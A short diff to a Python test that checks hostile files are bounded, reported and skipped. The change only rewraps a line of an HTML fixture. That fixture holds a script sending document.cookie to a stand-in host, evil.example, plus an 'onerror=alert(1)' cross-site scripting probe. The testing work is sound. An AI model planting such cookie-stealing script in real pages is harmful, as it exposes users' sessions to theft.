@@ -51,8 +51,8 @@ def test_hostile_files_are_bounded_reported_and_skipped(
     )
     (corpus / "page.html").write_text(
         "<html><head><title>Notice</title><script>fetch('https://evil.example/'+document.cookie)"
-        "</script></head><body><p>Everyone read this &lt;!channel&gt; and &lt;@U123&gt; notice about the "
-        "alliance.</p><img src=x onerror=alert(1)></body></html>",
+        "</script></head><body><p>Everyone read this &lt;!channel&gt; and &lt;@U123&gt; notice "
+        "about the alliance.</p><img src=x onerror=alert(1)></body></html>",
         encoding="utf-8",
     )
     outside = tmp_path / "secret.txt"
